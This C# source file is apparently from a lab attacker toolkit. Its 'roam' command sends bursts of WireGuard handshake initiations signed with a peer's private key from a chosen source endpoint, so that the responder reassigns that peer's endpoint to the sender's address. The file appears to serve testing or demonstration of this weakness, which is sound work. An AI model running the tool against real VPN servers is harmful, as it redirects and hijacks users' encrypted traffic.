using System.Net;
using System.Net.Sockets;
using WgRouted.Engine.Handshake;

namespace WgRouted.Lab.Attacker;

/// <summary>
/// roam: --count WireGuard handshake initiations with the key, --interval-ms apart (wireguard-go takes at most one a
/// peer every 20 ms), from the source endpoint --from: the responder moves its endpoint for the key's owner there.
/// </summary>
internal static class Roam
{
    public static int Run(Arguments a)
    {
        var identity = Identity.Load(a.Text("key"), a.Key("peer"));
        var to = a.Endpoint("to");
        var from = a.Endpoint("from");
        var count = a.Number("count", 1, 200);
        var interval = a.Number("interval-ms", 20, 5000);
        using var socket = Senders.Bind(new IPEndPoint(from.Address, from.Port));
        var destination = new IPEndPoint(to.Address, to.Port);
        var keys = new HandshakeKeys(identity.PrivateKey, identity.Peer, []);
        var message = new byte[HandshakeCodec.InitiationSize];
        var sent = 0;
        for (var i = 0; i < count; i++)
        {
            if (i > 0)
                Thread.Sleep((int)interval);
            var index = (uint)System.Security.Cryptography.RandomNumberGenerator.GetInt32(int.MaxValue);
            // Stamped with the current grain, as WireGuard itself does: it must be newer than the owner's last one.
            HandshakeCodec.WriteInitiation(keys, System.Security.Cryptography.RandomNumberGenerator.GetBytes(32), index, DateTimeOffset.UtcNow, [], message);
            socket.SendTo(message, SocketFlags.None, destination);
            sent++;
        }
        Console.WriteLine($"sent={sent} from={from} to={to}");
        return 0;
    }
}
